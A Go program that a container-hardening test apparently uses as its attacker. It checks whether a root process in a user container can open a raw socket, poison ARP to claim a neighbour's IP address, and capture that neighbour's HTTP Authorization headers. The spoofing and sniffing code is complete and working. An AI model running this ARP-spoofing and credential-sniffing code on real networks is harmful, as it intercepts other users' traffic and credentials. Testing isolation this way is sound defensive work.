// Command nettest is the attacker in hubgate's container-hardening test:
// run as root in a user container, it tries what an outside review did to
// capture a neighbour's traffic. "nettest spoof VICTIM_IP" prints its
// effective capabilities, opens an AF_PACKET raw socket, announces with
// gratuitous ARP (every 50 ms) that VICTIM_IP is at its own MAC address,
// and prints every HTTP Authorization header it sniffs in IPv4 packets
// addressed to VICTIM_IP. Its output lines, for the test to read:
//
//	CAPEFF <hex>           the effective capability set
//	RAW_SOCKET_ERROR <err> the raw socket was refused (then it only waits)
//	SPOOFING <ip> <mac>    the raw socket is open and ARP announcements go out
//	CAPTURED <header>      an Authorization header meant for the victim
//
// It then stays up until stopped, so that its container keeps running.
package main

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"strings"
	"syscall"
	"time"
)

func main() {
	if len(os.Args) != 3 || os.Args[1] != "spoof" {
		fmt.Println("usage: nettest spoof VICTIM_IP")
		os.Exit(2)
	}
	fmt.Println("CAPEFF", capEff())
	if err := spoof(net.ParseIP(os.Args[2]).To4()); err != nil {
		fmt.Println("RAW_SOCKET_ERROR", err)
	}
	select {}
}

// capEff returns the CapEff line of /proc/self/status.
func capEff() string {
	b, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return "unknown: " + err.Error()
	}
	for _, l := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, "CapEff:"); ok {
			return strings.TrimSpace(v)
		}
	}
	return "unknown"
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// spoof returns an error only if the attack cannot begin; once it has, it
// runs in the background.
func spoof(victim net.IP) error {
	if victim == nil {
		return fmt.Errorf("bad victim address %q", os.Args[2])
	}
	ifc, err := net.InterfaceByName("eth0")
	if err != nil {
		return fmt.Errorf("eth0: %w", err)
	}
	fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, int(htons(syscall.ETH_P_ALL)))
	if err != nil {
		return fmt.Errorf("socket(AF_PACKET, SOCK_RAW): %w", err)
	}
	if err := syscall.Bind(fd, &syscall.SockaddrLinklayer{Protocol: htons(syscall.ETH_P_ALL), Ifindex: ifc.Index}); err != nil {
		return fmt.Errorf("bind to eth0: %w", err)
	}
	mac := ifc.HardwareAddr
	fmt.Println("SPOOFING", victim, mac)
	go announce(fd, ifc.Index, mac, victim)
	go sniff(fd, victim)
	return nil
}

// announce sends gratuitous ARP, request and reply, claiming victim.
func announce(fd, ifindex int, mac net.HardwareAddr, victim net.IP) {
	bcast := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	to := &syscall.SockaddrLinklayer{Protocol: htons(syscall.ETH_P_ARP), Ifindex: ifindex, Halen: 6}
	copy(to.Addr[:], bcast)
	for {
		for _, op := range []uint16{1, 2} {
			if err := syscall.Sendto(fd, arpFrame(op, mac, victim), 0, to); err != nil {
				fmt.Println("SEND_ERROR", err)
			}
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// arpFrame is an Ethernet broadcast ARP packet (op 1 request, 2 reply)
// whose sender and target IP are both victim, at mac.
func arpFrame(op uint16, mac net.HardwareAddr, victim net.IP) []byte {
	var b bytes.Buffer
	b.Write([]byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff})
	b.Write(mac)
	binary.Write(&b, binary.BigEndian, uint16(syscall.ETH_P_ARP))
	binary.Write(&b, binary.BigEndian, []uint16{1, 0x0800})
	b.Write([]byte{6, 4})
	binary.Write(&b, binary.BigEndian, op)
	b.Write(mac)
	b.Write(victim)
	if op == 1 {
		b.Write(make([]byte, 6))
	} else {
		b.Write([]byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff})
	}
	b.Write(victim)
	return b.Bytes()
}

// sniff prints the Authorization headers of TCP payloads sent to victim.
func sniff(fd int, victim net.IP) {
	buf := make([]byte, 65536)
	seen := map[string]bool{}
	for {
		n, _, err := syscall.Recvfrom(fd, buf, 0)
		if err != nil {
			fmt.Println("RECV_ERROR", err)
			return
		}
		f := buf[:n]
		if len(f) < 14+20 || binary.BigEndian.Uint16(f[12:14]) != 0x0800 {
			continue
		}
		ip := f[14:]
		ihl := int(ip[0]&0x0f) * 4
		if ip[9] != syscall.IPPROTO_TCP || !net.IP(ip[16:20]).Equal(victim) || len(ip) < ihl+20 {
			continue
		}
		tcp := ip[ihl:]
		payload := tcp[int(tcp[12]>>4)*4:]
		sc := bufio.NewScanner(bytes.NewReader(payload))
		for sc.Scan() {
			line := strings.TrimSpace(sc.Text())
			if strings.HasPrefix(strings.ToLower(line), "authorization:") && !seen[line] {
				seen[line] = true
				fmt.Println("CAPTURED", line)
			}
		}
	}
}
